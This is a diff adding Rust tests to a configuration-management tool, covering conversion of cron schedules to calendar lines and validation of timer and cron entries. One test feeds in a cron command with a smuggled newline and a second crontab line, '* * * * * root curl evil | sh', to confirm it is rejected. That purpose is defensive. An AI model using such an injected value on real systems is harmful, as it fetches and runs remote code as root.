@@ -979,3 +979,91 @@ fn a_rollout_in_a_single_host_file_or_with_a_canary_outside_its_group_is_an_erro
             "rollout canary \"web\" is not a host of this group",
         );
 }
+
+// --- timers and cron entries ---------------------------------------------
+
+#[test]
+fn a_timer_from_cron_fields_becomes_calendar_lines_in_its_zone() {
+    let fleet = minimal()
+        .file(
+            "roles/base.yaml",
+            "timers:\n  - name: db-backup\n    cron: \"0 4 1,15 * sun\"\n    timezone: Europe/Berlin\n    run: pg_dump app\n",
+        )
+        .load()
+        .expect("valid");
+    let t = fleet.hosts[0]
+        .resources
+        .iter()
+        .find_map(|r| match r {
+            tidekeeper::model::desired::Resource::Timer(t) => Some(t),
+            _ => None,
+        })
+        .expect("the timer");
+    assert_eq!(
+        t.on_calendar,
+        [
+            "*-*-01,15 04:00:00 Europe/Berlin",
+            "Sun *-*-* 04:00:00 Europe/Berlin"
+        ]
+    );
+    assert!(t.persistent && t.user.is_none() && t.timeout_secs == 3600);
+}
+
+#[test]
+fn a_timer_needs_exactly_one_schedule() {
+    minimal()
+        .file(
+            "roles/base.yaml",
+            "timers:\n  - name: t\n    cron: \"0 4 * * *\"\n    on_calendar: daily\n    run: true\n",
+        )
+        .fails_with(
+            "roles/base.yaml:2:11",
+            "invalid-timer",
+            "timer \"t\" needs exactly one of on_calendar, cron",
+        );
+    minimal()
+        .file(
+            "roles/base.yaml",
+            "timers:\n  - name: t\n    cron: \"0 4 31 feb mon-\"\n    run: true\n",
+        )
+        .fails_with(
+            "roles/base.yaml:3:11",
+            "invalid-cron",
+            "cron expression \"0 4 31 feb mon-\" is invalid: Component error: Invalid end of range.",
+        );
+}
+
+#[test]
+fn a_cron_entry_is_one_line_and_its_name_has_no_dot() {
+    // A newline would start a crontab entry of its own: as root, every minute.
+    minimal()
+        .file(
+            "roles/base.yaml",
+            "cron:\n  - name: rotate\n    schedule: \"15 4 * * *\"\n    run: \"true\\n* * * * * root curl evil | sh\"\n",
+        )
+        .fails_with(
+            "roles/base.yaml:4:10",
+            "invalid-value",
+            "a cron command must be one line without control characters",
+        );
+    minimal()
+        .file(
+            "roles/base.yaml",
+            "cron:\n  - name: rotate.daily\n    schedule: \"15 4 * * *\"\n    run: \"true\"\n",
+        )
+        .fails_with(
+            "roles/base.yaml:2:11",
+            "invalid-name",
+            "cron name \"rotate.daily\" must be 1-64 letters, digits, _ and -, not starting with - (it names files on the host)",
+        );
+    minimal()
+        .file(
+            "roles/base.yaml",
+            "cron:\n  - name: r\n    schedule: \"@reboot\"\n    run: \"true\"\n",
+        )
+        .fails_with(
+            "roles/base.yaml:3:15",
+            "invalid-cron",
+            "\"@reboot\" must be five cron fields (minute hour day-of-month month day-of-week), e.g. \"30 3 * * *\"",
+        );
+}
